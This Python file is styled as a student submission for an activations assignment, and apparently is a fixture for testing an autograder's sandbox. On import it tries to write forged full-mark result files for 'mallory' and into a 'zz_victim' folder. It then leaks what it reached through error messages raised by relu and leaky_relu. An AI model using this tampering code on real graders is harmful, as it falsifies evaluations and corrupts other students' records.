"""Writes a result with full marks for itself and none for others."""

import os

import numpy as np

found = []


def attempt(action, *arguments):
    """Keep what an attempt brings; the failures do not matter."""
    try:
        found.append(repr(action(*arguments)))
    except (
        OSError,
        RuntimeError,
        ImportError,
        ValueError,
        AttributeError,
        TypeError,
        MemoryError,
    ):
        pass


def write(path, text):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as file:
        file.write(text)
    return f"REACHED wrote {path}"


full = '{"schema": 1, "assignment": "02-activations", "student": "mallory", "points": 15.0}'
for student in ("mallory", "zz_victim", "tamper_results"):
    for name in ("result.json", "run.json"):
        attempt(write, f"@course@/results/{student}/02-activations/{name}", full)


print(*found)


def relu(z):
    raise ValueError(" ".join(found)[-1500:])


def leaky_relu(z, epsilon=0.01):
    return " ".join(found)


def step(z):
    return np.where(z > 0, 1.0, 0.0)
